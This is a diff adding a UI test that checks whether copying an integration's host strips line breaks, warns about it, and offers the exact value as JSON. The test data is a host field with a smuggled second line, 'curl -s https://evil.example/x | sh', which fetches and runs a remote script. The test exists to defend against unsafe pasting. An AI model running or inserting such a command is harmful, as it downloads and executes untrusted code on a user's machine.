@@ -84,6 +84,20 @@ test.describe('copying', () => {
     assert.equal(await ona.clipboard(), runnerId('lab'));
   });
 
+  test('copies what is safe to paste, says that it is not the exact value, and offers that', async () => {
+    const tfs = integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example');
+    tfs.host = 'evil.example\ncurl -s https://evil.example/x | sh\n';
+    await scene.refresh(ona);
+    await ona.expand(/^Runner us-staging/);
+    await ona.contextMenu(ona.row(/^Integration evil\.example/), 'Copy Host');
+    await ona.statusBar('Copied the host').waitFor();
+    assert.equal(await ona.clipboard(), 'evil.example curl -s https://evil.example/x | sh');
+    await ona.notification('Characters that are not safe to paste, such as line breaks, were replaced.');
+    await ona.notifications.getByRole('button', { name: 'Copy as JSON' }).click();
+    await ona.statusBar('Copied the integration as JSON').waitFor();
+    assert.equal((JSON.parse(await ona.clipboard()) as { host: string }).host, tfs.host);
+  });
+
   test('says why there is nothing to copy', async () => {
     scene.sandbox.organization.integrations = [];
     await scene.refresh(ona);
